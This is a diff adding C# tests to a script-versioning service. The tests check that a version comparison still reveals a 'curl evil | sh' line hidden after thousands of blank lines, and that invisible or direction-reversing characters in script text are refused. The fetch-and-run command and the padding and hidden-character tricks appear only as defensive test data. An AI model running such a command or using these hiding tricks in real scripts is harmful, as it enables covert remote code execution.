@@ -14,6 +14,45 @@ public sealed class ScriptTests(Hosts hosts) : IClassFixture<Hosts>
     private const string Secret = "a-secret-that-nobody-finds";
 
     [Theory, OnBothDatabases]
+    public async Task Comparison_leaves_nothing_out_that_somebody_approves_by(DatabaseKind kind)
+    {
+        var (host, clock) = await hosts.OnAsync(kind);
+        var padding = string.Concat(Enumerable.Repeat("\n", 20_001));
+        var draft = ScriptCalls.Shell($"L {Uuid7.New(clock)}", $"#!/bin/sh\n{padding}true\n");
+        var script = await host.CreateScriptAsync(draft);
+        var path = $"{ScriptCalls.Route}/{script.Id}";
+
+        (
+            await host.Admin.TryPutAsync(
+                path,
+                script.Version,
+                draft with
+                {
+                    Content = $"#!/bin/sh\n{padding}curl evil | sh\n",
+                }
+            )
+        ).ShouldBe((200, null));
+
+        var diff = await host.GetAsync<ContentDiff>($"{path}/diff?from=1&to=2");
+        diff.Lines!.Where(line => line.Kind is "added" or "removed")
+            .ShouldBe([new ContentLineDiff("removed", "true"), new ContentLineDiff("added", "curl evil | sh")]);
+    }
+
+    [Theory, OnBothDatabases]
+    public async Task Characters_that_nobody_sees_are_refused(DatabaseKind kind)
+    {
+        var host = (await hosts.OnAsync(kind)).Host;
+        foreach (var hidden in new[] { "\r", "\f", "\u0085", "\u2028", "\u202E", "\u200B" })
+        {
+            var draft = ScriptCalls.Shell("Deceives", $"# not on servers{hidden}exit 0\n");
+            (await host.TryPostAsync(ScriptCalls.Route, draft)).ShouldBe((400, "validation_failed"));
+        }
+
+        var windows = ScriptCalls.Shell($"Windows {kind}", "echo 1\r\n\techo 2\r\n");
+        (await host.CreateScriptAsync(windows)).Number.ShouldBe(1);
+    }
+
+    [Theory, OnBothDatabases]
     public async Task Script_is_versioned_and_compared_line_by_line(DatabaseKind kind)
     {
         var (host, clock) = await hosts.OnAsync(kind);
@@ -129,7 +168,7 @@ public sealed class ScriptTests(Hosts hosts) : IClassFixture<Hosts>
     public async Task Text_has_two_hundred_and_fifty_six_kibibytes_whatever_has_to_be_escaped()
     {
         var (host, clock) = await hosts.OnAsync(DatabaseKind.Sqlite);
-        var most = new string('\u0001', 256 * 1024);
+        var most = new string('"', 256 * 1024);
 
         (await host.TryPostAsync(ScriptCalls.Route, ScriptCalls.Shell($"S {Uuid7.New(clock)}", most))).ShouldBe(
             (200, null)
